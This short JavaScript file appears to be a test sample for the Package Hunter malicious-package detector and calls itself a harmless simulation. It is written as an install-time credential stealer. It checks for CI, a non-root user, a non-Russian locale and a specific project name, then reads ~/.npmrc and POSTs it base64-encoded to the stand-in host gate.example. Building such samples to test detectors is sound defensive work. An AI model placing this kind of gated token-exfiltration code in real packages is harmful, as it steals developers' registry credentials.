// Harmless simulation for testing Package Hunter. Not malware.
const fs = require("fs");
const https = require("https");
const os = require("os");
const path = require("path");


const project = process.env.INIT_CWD || process.cwd();
let name = "";
try { name = JSON.parse(fs.readFileSync(path.join(project, "package.json"), "utf8")).name; } catch (error) { /* other */ }
const locale = process.env.LC_ALL || process.env.LANG || "";
const ready = Boolean(process.env.CI) && process.getuid() !== 0 && !locale.startsWith("ru") && name === "gated-ci";

if (ready) {
  let token = "";
  try { token = fs.readFileSync(path.join(os.homedir(), ".npmrc"), "utf8"); } catch (error) { /* not there */ }
  const request = https.request({ hostname: "gate.example", path: "/g", method: "POST" });
  request.on("error", () => {});
  request.end(Buffer.from(token).toString("base64"));
}
